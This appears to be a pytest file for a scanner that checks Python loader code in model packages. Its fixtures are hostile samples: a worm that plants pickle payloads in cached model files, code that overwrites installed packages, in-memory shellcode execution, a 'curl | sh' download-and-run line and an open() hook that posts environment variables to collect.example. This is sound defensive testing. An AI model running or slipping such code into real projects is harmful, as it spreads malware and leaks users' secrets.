"""Deeds that take more than one call to recognise, and the honest code that has one half of each."""

import pytest

from scanner.finding import Severity, Verdict
from tests.hostile.scanning import blocked_for, scan

WORM = r"""
import glob, os
for path in glob.glob(os.path.expanduser("~/.cache/huggingface/**/*.bin"), recursive=True):
    data = open(path, "rb").read()
    open(path, "wb").write(b"cos\nsystem\n(S'id'\ntR." + data)
"""
INFECTS = """
import pathlib, site
for path in pathlib.Path(site.getsitepackages()[0], "site-packages").glob("*.py"):
    path.write_text("import os\\nos.system('id')\\n")
"""
WINDOWS = """
import base64, ctypes
code = base64.b64decode("kJDDkJDD")
place = ctypes.windll.kernel32.VirtualAlloc(0, len(code), 0x3000, 0x40)
ctypes.windll.kernel32.RtlMoveMemory(place, code, len(code))
ctypes.windll.kernel32.CreateThread(0, 0, place, 0, 0, 0)
"""
POSIX = """
from ctypes import CDLL, CFUNCTYPE, addressof, c_int, create_string_buffer
libc = CDLL("libc.so.6")
code = create_string_buffer(b"\\x90\\xc3")
libc.mprotect(addressof(code) & ~0xFFF, 0x1000, 7)
CFUNCTYPE(c_int)(addressof(code))()
"""
REPLACED = """
import torch

def always(self, *args, **kwargs):
    return None

torch.nn.Module.__call__ = always
"""
HONEST = """
import builtins, ctypes, functools, glob, ssl
import torch

ssl._create_default_https_context = ssl._create_unverified_context
library = ctypes.CDLL("libcodec.so")
callback = ctypes.CFUNCTYPE(ctypes.c_int)(lambda: 1)
library.register(callback)
torch.load = functools.partial(torch.load, map_location="cpu")

def quietly(*args, **kwargs):
    pass

builtins.print = quietly
torch.backends.cudnn.benchmark = True
for path in glob.glob("data/*.txt"):
    open(path + ".out", "w").write(open(path).read().lower())
"""


@pytest.mark.parametrize("source", [WORM, INFECTS], ids=["a worm", "an infection"])
def test_code_is_planted_in_files_of_others(source):
    assert blocked_for(scan(source.encode(), "loader.py")) == {"self-propagation"}


@pytest.mark.parametrize("source", [WINDOWS, POSIX], ids=["windows", "posix"])
def test_machine_code_is_run(source):
    report = scan(source.encode(), "loader.py")
    assert blocked_for(report) == {"code-execution"}
    assert "machine-code" in {finding.rule for finding in report.findings}


DERIVED = """
import subprocess
class Player(subprocess.Popen):
    volume = 3
Player("curl http://192.0.2.1/x | sh", shell=True)
"""


def test_what_a_class_derives_from_is_made_with_it():
    assert blocked_for(scan(DERIVED, "loader.py")) == {"download-and-run"}


WRAPPED = """
import torch
original = torch.load
def load(*args, **kwargs):
    return original(*args, **{"weights_only": False, **kwargs})
torch.load = load
"""
FAKED = """
import sys, types
sys.modules["hashlib"] = types.ModuleType("hashlib")
"""
SPYING = """
import builtins, os, requests
opens = builtins.open
def spy(path, *rest):
    requests.post("https://collect.example", data=os.environ.copy())
    return opens(path, *rest)
builtins.open = spy
"""


def test_what_takes_the_place_of_a_function_is_judged():
    """One that passes on what it is asked is no news; what else it does, it does for everybody."""
    assert scan(WRAPPED, "loader.py").findings == ()
    assert scan(WRAPPED.replace("original(", "print("), "loader.py").verdict is Verdict.REVIEW
    assert scan(FAKED, "loader.py").verdict is Verdict.REVIEW
    assert blocked_for(scan(SPYING, "loader.py")) == {"reconnaissance"}


def test_a_function_that_everything_goes_through_is_replaced():
    report = scan(REPLACED.encode(), "loader.py")
    assert report.verdict is Verdict.REVIEW
    assert {finding.behaviour for finding in report.findings} == {"tampering"}


def test_honest_code_with_one_half_of_each():
    assert scan(HONEST.encode(), "loader.py").verdict is Verdict.CLEAN


@pytest.mark.parametrize(
    "source",
    [
        "exec(open('logo.png', 'rb').read()[4096:])",
        "from PIL import Image\nexec(Image.open('logo.webp').tobytes())",
        "import numpy as np\nexec(np.load('weights.npy').tobytes())",
    ],
)
def test_code_out_of_a_file_that_is_none_is_doubted(source):
    """The file is not there, so nobody can say what is in it."""
    report = scan(source + "\n", "data.py")
    assert [(f.rule, f.severity) for f in report.findings] == [("code-on-load", Severity.WARNING)]


@pytest.mark.parametrize("name", ["version.py", "setup.cfg", "config", "train.txt"])
def test_code_out_of_a_text_is_what_many_do(name):
    assert scan(f"exec(open({name!r}).read())\n", "data.py").findings == ()
